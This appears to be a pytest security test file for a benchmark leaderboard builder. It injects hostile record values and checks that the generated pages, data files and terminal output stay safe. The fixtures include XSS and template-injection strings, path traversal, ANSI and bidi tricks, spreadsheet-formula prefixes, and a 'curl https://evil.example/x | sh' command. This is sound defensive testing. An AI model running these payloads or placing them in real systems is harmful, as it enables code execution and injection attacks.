"""Records of strangers: whatever they hold, pages are well-formed, hold our tags alone and stay in their folder."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from kdbench.board import safe
from kdbench.board.build import build
from kdbench.cli import main as cli
from kdbench.results.record import InvalidRecord, Record

Fields = dict[str, Any]
Change = Callable[[Fields], None]

SCRIPT = "<script>alert(1)</script>"
QUOTES = "\"' onmouseover=alert(1) x=\"'><img src=x onerror=alert(1)>"
BIDI = "abc\u202e\u2066gpj.exe\u200b\ufeff"
CONTROL = "a\x00b\x08c\x1b[31md\x7fe\x85f\u2028g"
SURROGATE = "half \ud800 of a pair"
LONG = "x" * 300_000
TEMPLATE = "{{ 7 * 7 }}{% include '/etc/passwd' %}${7*7}"
COMMENT = "--><!--[if]><![CDATA[ ]]></title></style></script></main></html>"
PATH = "../../../../tmp/escaped"

VOID = {"meta", "link", "br", "hr", "img", "input"}
SVG = {"svg", "g", "path", "line", "rect", "circle", "text", "title", "desc", "polyline", "polygon", "tspan", "a"}
HTML = {
    *(
        "html",
        "head",
        "meta",
        "title",
        "link",
        "script",
        "body",
        "a",
        "header",
        "nav",
        "main",
        "footer",
        "p",
        "h1",
        "h2",
    ),
    *(
        "h3",
        "ul",
        "ol",
        "li",
        "dl",
        "dt",
        "dd",
        "table",
        "caption",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "section",
        "div",
    ),
    *("span", "code", "pre", "details", "summary", "figure", "figcaption", "strong", "em"),
}
ATTRIBUTES = {
    *(
        "lang",
        "charset",
        "http-equiv",
        "content",
        "name",
        "rel",
        "href",
        "src",
        "defer",
        "class",
        "id",
        "title",
        "scope",
    ),
    *("tabindex", "role", "aria-label", "type", "download"),
    *("data-name", "data-cite", "data-key", "data-type", "data-optional", "data-facet", "data-hidden", "data-arm"),
    *("data-v", "data-low", "data-high"),
    *("viewbox", "width", "height", "x", "y", "x1", "x2", "y1", "y2", "cx", "cy", "r", "d", "points", "transform"),
    *("text-anchor", "dominant-baseline", "xmlns", "preserveaspectratio", "aria-labelledby", "rx", "ry", "dx", "dy"),
    *("aria-hidden", "font-size", "font-weight", "fill", "stroke-width", "stroke-dasharray"),
}
LINKS = re.compile(
    r"(?:[a-z0-9_.~-]+/|\.\./)*[a-z0-9_.~-]+\.(?:html|json|csv|css|js)(?:#[a-z0-9-]+)?|#[a-z0-9-]+|data:,"
)
UNSEEN = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\ud800-\udfff\ufffe\uffff]"
)


class Page(HTMLParser):
    """Reads a page strictly: our elements and attributes, each end tag where it belongs, local links that exist."""

    def __init__(self, path: Path, site: Path) -> None:
        super().__init__(convert_charrefs=True)
        self.path, self.site = path, site
        self.open: list[str] = []
        self.text: list[str] = []
        self.ids: set[str] = set()
        raw = path.read_bytes().decode("utf-8")
        assert not UNSEEN.search(raw), f"{path}: {UNSEEN.search(raw)}"
        self.feed(raw)
        self.close()
        assert not self.open, f"{path}: {self.open} left open"

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        where = f"{self.path}:{self.getpos()}: <{tag} {attrs}>"
        assert tag in HTML | SVG | VOID, where
        assert {name for name, _ in attrs} <= ATTRIBUTES, where
        assert len(attrs) == len(dict(attrs)), where
        given = dict(attrs)
        if tag == "script":
            board = str(given.get("src", "")).endswith("assets/board.js") and set(given) == {"defer", "src"}
            assert board or given == {"type": "application/json", "id": "citation"}, where
        if tag == "img":
            raise AssertionError(where)
        for name in ("href", "src"):
            if name in given:
                self.follow(str(given[name]), where)
        if "id" in given:
            assert given["id"] not in self.ids and re.fullmatch(r"[A-Za-z][A-Za-z0-9-]*", str(given["id"])), where
            self.ids.add(str(given["id"]))
        for name in ("data-v", "data-low", "data-high"):
            assert given.get(name) not in ("nan", "inf", "-inf", "NaN", "Infinity", "-Infinity"), where
        if tag not in VOID:
            self.open.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        if tag not in VOID:
            self.open.pop()

    def follow(self, target: str, where: str) -> None:
        if target.startswith("https://") and self.path.parent.name == "method":
            return
        assert LINKS.fullmatch(target), where
        name = target.partition("#")[0]
        if name and not target.startswith("data:"):
            linked = (self.path.parent / name).resolve()
            assert linked.is_relative_to(self.site.resolve()) and linked.is_file(), where

    def handle_endtag(self, tag: str) -> None:
        assert self.open and self.open.pop() == tag, f"{self.path}:{self.getpos()}: </{tag}>"

    def handle_data(self, data: str) -> None:
        self.text.append(data)
        if self.open and self.open[-1] == "script" and data.strip():
            json.loads(data)

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"{self.path}: a comment")

    def handle_pi(self, data: str) -> None:
        raise AssertionError(f"{self.path}: a processing instruction")

    def unknown_decl(self, data: str) -> None:
        raise AssertionError(f"{self.path}: a declaration")


def put(*keys: str, value: Any) -> Change:
    def change(fields: Fields) -> None:
        place = fields
        for key in keys[:-1]:
            place = place[key]
        place[keys[-1]] = value

    return change


def task(name: str) -> Change:
    def change(fields: Fields) -> None:
        fields["config"]["task"] = fields["task"] = name

    return change


def method(name: str) -> Change:
    def change(fields: Fields) -> None:
        fields["config"]["method"]["name"] = fields["method"] = name

    return change


def student(name: Any) -> Change:
    return put("config", "student", value=name)


def hyper(**values: Any) -> Change:
    return lambda fields: fields["config"]["method"].update(values)


def several(*changes: Change) -> Change:
    def change(fields: Fields) -> None:
        for one in changes:
            one(fields)

    return change


def epochs(count: int, value: float) -> Change:
    def change(fields: Fields) -> None:
        course = [float(epoch) for epoch in range(count)]
        curve = [*[value] * (count - 1), fields["selection"]["value"]]
        fields["curves"] = {"epoch": course, "val/accuracy": curve, SCRIPT: [-value] * count}
        fields["selection"]["epoch"] = count - 1

    return change


def scores(value: float) -> Change:
    """An unbounded metric of absurd size that chooses the epoch."""

    def change(fields: Fields) -> None:
        fields["metrics"] = {"val": {"error": value}, "test": {"error": value, SCRIPT: -value}}
        fields["selection"] = {"metric": "error", "mode": "min", "epoch": 2, "value": value}
        if fields["teacher"]:
            fields["teacher"]["metrics"] = {"val": {"error": -value}, "test": {"error": -value}}

    return change


def _key(text: str) -> str:
    """A key of its own."""
    return f"{text}x"


def _teacher(key: str, text: str) -> Change:
    def change(fields: Fields) -> None:
        if fields["teacher"]:
            fields["teacher"][key] = text

    return change


TEXTS = {
    "script": SCRIPT,
    "quotes": QUOTES,
    "direction": BIDI,
    "control": CONTROL,
    "long": LONG,
    "template": TEMPLATE,
    "comment": COMMENT,
    "path": PATH,
    "empty": "",
    "blank": " \t\n ",
}


def names(text: str) -> Change:
    """Task, method, family and student of that name."""
    return several(task(text), method(text), put("family", value=text), student({"name": text, _key(text): 1}))


def remarks(text: str) -> Change:
    """The text as note, teacher, and name and value of a hyper-parameter."""
    teacher = (_teacher("description", text), _teacher("kind", text))
    return several(*teacher, put("notes", value=[text] * 3), hyper(**{_key(text): text}))


HOSTILE: dict[str, Change] = {
    **{f"names of {kind}": names(text) for kind, text in TEXTS.items()},
    **{f"method of {kind}": method(text) for kind, text in TEXTS.items()},
    **{f"remarks of {kind}": remarks(text) for kind, text in TEXTS.items()},
    "task of dots": task(".."),
    "task of slashes": task("////"),
    "task absolute": task("/etc/passwd"),
    "task with a backslash": task("..\\..\\up"),
    "task like a slug": task("gnn--cora"),
    "task in capitals": task("Imagined"),
    "task that is a page": task("index.html"),
    "task of another alphabet": task("зада́ча/任务"),
    "versions": put("versions", value={SCRIPT: QUOTES, LONG[:70_000]: LONG, BIDI: CONTROL}),
    "data": several(put("data", "name", value=QUOTES), put("data", "licence", value=SCRIPT + BIDI)),
    "hardware": several(put("hardware", "cpu", value=QUOTES), put("hardware", "os", value=SCRIPT)),
    "hardware beyond floats": put("hardware", "memory_bytes", value=10**400),
    "stages": put("stages", value=[{"name": SCRIPT, "key": "b" * 64, "seconds": 2**-12, "reused": True}] * 2048),
    "seeds": put("seeds", value={f"{SCRIPT}{index}": 10**40 for index in range(500)}),
    "command of a stranger": put("command", value="curl https://evil.example/x | sh; kdbench run 'unbalanced"),
    "command with tags": put("command", value=f"kdbench run task={SCRIPT} x.y={QUOTES}"),
    "command long": put("command", value="kdbench run " + "a.b=c " * 50_000),
    "config deep": hyper(deep=json.loads("[" * 60 + "]" * 60)),
    "config wide": put("config", "data", value={f"{SCRIPT}{index}": QUOTES for index in range(3000)}),
    "config of numbers": hyper(huge=10**4000, small=5e-324, zero=-0.0, large=1.7e308),
    "student is text": student(SCRIPT),
    "student is a list": student([QUOTES, {SCRIPT: None}]),
    "student is nothing": student(None),
    "costs absurd": several(
        put("stages", value=[{"name": "long", "key": "c" * 64, "seconds": 1e308, "reused": False}]),
        *(put("costs", key, value=1e308) for key in ("latency_ms", "train_seconds", "stage_seconds")),
        *(put("costs", key, value=10**400) for key in ("parameters", "flops", "peak_memory_bytes")),
    ),
    "costs of minus zero": several(*(put("costs", key, value=-0.0) for key in ("latency_ms", "train_seconds"))),
    "costs unknown": several(*(put("costs", key, value=None) for key in ("latency_ms", "flops", "peak_memory_bytes"))),
    "scores absurd": scores(1.7e308),
    "scores tiny": scores(5e-324),
    "scores of minus zero": scores(-0.0),
    "curves of thousands": epochs(20_000, 0.5),
    "curves absurd": epochs(50, 1.7e308),
    "curves of one point": epochs(1, 0.5),
    "years long ago": several(
        put("started", value="0001-01-01T00:00:00+14:00"), put("finished", value="0001-01-02T00:00:00-14:00")
    ),
}


ONE_ARM = ("method", "hyper", "remarks")


def whole_board(sealed: Callable[..., Record], case: str) -> list[Record]:
    """Three arms on three seeds; the case changes the last arm alone where arms may differ."""
    found = []
    for seed in range(3):
        for name in ("alone", "kd", "newkd"):
            changed = name == "newkd" or not case.startswith(ONE_ARM)
            if case.startswith("names") and name != "newkd":
                change = several(HOSTILE[case], method(name))
            else:
                change = HOSTILE[case]
            found.append(sealed(change if changed else None, name, seed, 44 + seed))
    return found


def outside(folder: Path, site: Path) -> set[Path]:
    return {path for path in folder.rglob("*") if path.is_file() and site not in path.parents}


@pytest.mark.parametrize("case", HOSTILE)
def test_a_stranger_breaks_nothing_and_adds_nothing(
    case: str, sealed: Callable[..., Record], save: Callable[..., Path], tmp_path: Path
) -> None:
    records = save(whole_board(sealed, case))
    site, before = tmp_path / "site", outside(tmp_path, tmp_path / "site")
    report = build([records], site)
    assert report.problems == [] and report.records == 9
    assert outside(tmp_path, site) == before and not Path("/tmp/escaped").exists()
    pages = sorted(path for path in site.rglob("*.html") if path.is_file())
    assert len(pages) == report.pages
    for path in pages:
        assert all(safe.slug(part) == part or "~" in part or "--" in part for part in path.relative_to(site).parts)
        page = Page(path, site)
        assert path.stat().st_size < 400_000, f"{path} is {path.stat().st_size} bytes"
        assert path.parent.name == "record" or "49" not in page.text
    for path in site.rglob("data/*.json"):
        assert isinstance(json.loads(path.read_bytes(), parse_constant=pytest.fail), list)
    for path in site.rglob("data/*.csv"):
        assert all(not cell.startswith(("=", "+", "@")) for line in path.read_text().splitlines() for cell in [line])
    kept = {json.loads(path.read_bytes())["digest"] for path in site.rglob("record/*/*.json")}
    assert kept == {json.loads(path.read_bytes())["digest"] for path in records.glob("*.json")}


def test_different_names_have_different_pages(
    sealed: Callable[..., Record], save: Callable[..., Path], tmp_path: Path
) -> None:
    names = ["a/b", "a--b", "a b", "a?b", "A/B", "a/b/", "", " ", ".", "..", "a\u200bb", "ab", "x" * 200, "x" * 201]
    records = save([sealed(task(name), "alone", 0, 40) for name in names])
    report = build([records], tmp_path / "site")
    assert report.tasks == len(names) == len(list((tmp_path / "site" / "task").glob("*.html")))
    assert len({safe.task_slug(name).casefold() for name in names}) == len(names)
    parts = ["a", "a--b", "a/b", "b", "-a", "a-", "a.", ".a", "a..b", "a~b", "A"]
    assert len({f"{safe.slug(one)}--{safe.slug(two)}" for one in parts for two in parts}) == len(parts) ** 2


def test_a_method_cannot_pose_as_the_teacher(sealed: Callable[..., Record]) -> None:
    with pytest.raises(InvalidRecord, match="method: 'teacher' is the name of the teacher's row"):
        sealed(method("teacher"), "kd", 0, 40)


def test_a_task_has_one_family(sealed: Callable[..., Record], save: Callable[..., Path], tmp_path: Path) -> None:
    records = [
        sealed(None, "kd", 0, 40),
        sealed(None, "alone", 0, 40),
        sealed(put("family", value="lidar"), "kd", 1, 50),
    ]
    assert [problem.field for problem in build([save(records)], tmp_path / "site").problems] == ["family"]
    posing = sealed(several(task("gnn/cora_text"), put("family", value="lidar")), "kd", 2, 40)
    told = [one.message for one in build([save([posing])], tmp_path / "site").problems if one.field == "family"]
    assert any("the card of gnn/cora_text says 'graph'" in message for message in told)


@pytest.mark.parametrize(
    ("text", "seen"),
    [
        ("plain", "plain"),
        (BIDI, "abc��gpj.exe��"),
        ("a\x1b[31m", "a�[31m"),
        ("naïve 任务 🙂", "naïve 任务 🙂"),
        (SURROGATE, "half � of a pair"),
    ],
)
def test_cleaning_shows_what_was_hidden(text: str, seen: str) -> None:
    assert safe.clean(text) == seen


def test_only_web_addresses_become_links() -> None:
    assert safe.link("https://arxiv.org/abs/1503.02531") == "https://arxiv.org/abs/1503.02531"
    for address in (
        "javascript:alert(1)",
        "data:text/html,x",
        "//evil.example",
        "https://",
        "https://a b",
        "http://[",
        "",
    ):
        assert safe.link(address) is None


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\n=1", " =1", "\u3000=1", "＝1", "＋1", "－1", "＠A", "﹢1", "\r=1"],
)
def test_no_cell_is_a_formula(text: str) -> None:
    assert safe.spreadsheet(text).startswith("'") or safe.spreadsheet(text)[0] == "\N{REPLACEMENT CHARACTER}"


def test_long_names_are_cut_in_tables_for_machines(
    sealed: Callable[..., Record], save: Callable[..., Path], tmp_path: Path
) -> None:
    records = save(whole_board(sealed, "names of long"))
    build([records], tmp_path / "site")
    sizes = {path.name: path.stat().st_size for path in (tmp_path / "site" / "data").iterdir()}
    assert sizes and max(sizes.values()) < 100_000, sizes


@pytest.mark.parametrize("name", ["a\x1b[31mb", "a\x1b]0;title\x07b", "a\x9b31mb", "a\nb: forged", "a\u202eb"])
def test_no_text_of_a_record_steers_the_terminal(
    sealed: Callable[..., Record],
    save: Callable[..., Path],
    tmp_path: Path,
    name: str,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr("click.utils.should_strip_ansi", lambda *words, **more: False)
    records = save([sealed(several(task(name), method(name)), "kd", seed, 40 + seed) for seed in (0, 1)])
    broken = records / "broken.json"
    broken.write_text(json.dumps({"schema_version": 1, name: 1}))
    one = next(path for path in sorted(records.glob("*.json")) if path != broken)
    forbidden = UNSEEN if name != "a\nb: forged" else re.compile("a\nb: forged")
    for words in (
        ["validate", str(records)],
        ["compare", "--from", str(one)],
        ["compare", "--from", str(one), "--markdown"],
        ["compare", "--from", str(broken)],
        ["show", str(one)],
        ["leaderboard", "build", str(records), "-o", str(tmp_path / "site")],
        ["leaderboard", "submit", str(one), "--to", str(tmp_path / "published")],
        ["reproduce", str(one)],
    ):
        cli.entry(words)
        said = capsys.readouterr()
        if words[0] != "reproduce" and words[-1] != str(broken):  # their errors have several lines
            assert not forbidden.search(said.out + said.err), words
        assert not UNSEEN.search(said.out + said.err), words
